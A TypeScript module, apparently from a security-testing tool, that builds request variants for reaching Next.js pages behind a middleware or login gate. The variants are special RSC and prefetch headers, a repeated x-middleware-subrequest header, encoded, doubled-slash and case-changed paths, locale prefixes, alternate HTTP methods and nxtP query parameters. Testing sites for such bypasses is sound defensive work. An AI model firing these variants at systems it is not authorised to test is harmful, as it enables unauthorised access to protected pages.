import type { Sent } from './hear.ts'
import type { Address } from './addresses.ts'
import { pathOf } from './addresses.ts'
import type { KnownNames } from '../scene.ts'

/** Another way to ask for the same page, each of which once got past somebody's gate. */
export interface Variant {
  readonly name: string
  /** What is sent to come to a page by these names; `hidden` names something that does not exist either way. */
  send(address: Address, names: KnownNames, hidden: KnownNames): readonly Sent[]
}

const rsc = { rsc: '1' }
const prefetch = { ...rsc, 'next-router-prefetch': '1' }
const subrequests = ['middleware', 'src/middleware', 'proxy', 'src/proxy'].map((name) =>
  Array.from({ length: 5 }, () => name).join(':'),
)

const bySending =
  (...headers: readonly Readonly<Record<string, string>>[]): Variant['send'] =>
  (address, names) =>
    headers.map((sent) => ({ path: pathOf(address, names), headers: sent }))

const byPath =
  (...change: readonly ((path: string) => string)[]): Variant['send'] =>
  (address, names) =>
    change.map((changed) => ({ path: changed(pathOf(address, names)) }))

const byMethod =
  (method: string): Variant['send'] =>
  (address, names) => [{ path: pathOf(address, names), method }]

/** The twelve of the proof; “after the owner” is an order of asking and stands where pages are crawled. */
export const variants: readonly Variant[] = [
  { name: 'RSC', send: bySending(rsc) },
  { name: 'prefetch', send: bySending(prefetch) },
  {
    name: 'segment',
    send: (address, names) =>
      ['/_tree', segmentOf(address)].map((segment) => ({
        path: pathOf(address, names),
        headers: { ...prefetch, 'next-router-segment-prefetch': segment },
      })),
  },
  { name: '%xx', send: byPath(encodeLast, encodeFirst) },
  {
    name: '//',
    send: byPath(
      (path) => path.replaceAll('/', '//').slice(1),
      (path) => path.replace(/\/(?=[^/]*$)/, '//'),
    ),
  },
  {
    name: 'case',
    send: byPath(
      (path) => path.toUpperCase(),
      (path) => path.replace(/^\/\w/, (start) => start.toUpperCase()),
    ),
  },
  { name: 'HEAD', send: byMethod('HEAD') },
  {
    name: 'x-middleware-subrequest',
    send: bySending(...subrequests.map((value) => ({ 'x-middleware-subrequest': value }))),
  },
  {
    name: 'locale',
    send: (address, names) => [
      ...byPath(
        (path) => `/de${path}`,
        (path) => `/en${path}`,
      )(address, names, {}),
      { path: pathOf(address, names), headers: { 'accept-language': 'de' } },
    ],
  },
  { name: 'PUT', send: byMethod('PUT') },
  {
    name: 'nxtP',
    send: (address, names, hidden) => {
      const query = address.parameters.map((name) => `nxtP${name}=${names[name]}`)
      return [{ path: `${pathOf(address, hidden)}?${query.join('&')}` }]
    },
  },
]

/** The last letter as its number, as a browser never writes it. */
function encodeLast(path: string): string {
  return path.slice(0, -1) + encode(path.slice(-1))
}

function encodeFirst(path: string): string {
  return `/${encode(path[1] ?? '')}${path.slice(2)}`
}

function encode(letter: string): string {
  return `%${letter.charCodeAt(0).toString(16)}`
}

/** How the router names the page's own part when it fetches it ahead. */
function segmentOf({ file }: Address): string {
  const segments = file.split('/').slice(1, -1)
  return [...segments.map(segmentName), '__PAGE__'].map((segment) => `/${segment}`).join('')
}

function segmentName(segment: string): string {
  const parameter = /^\[(\w+)\]$/.exec(segment)?.[1]
  if (parameter !== undefined) return `$d$${parameter}`
  return /^[\w-]+$/.test(segment) ? segment : `!${Buffer.from(segment).toString('base64url')}`
}
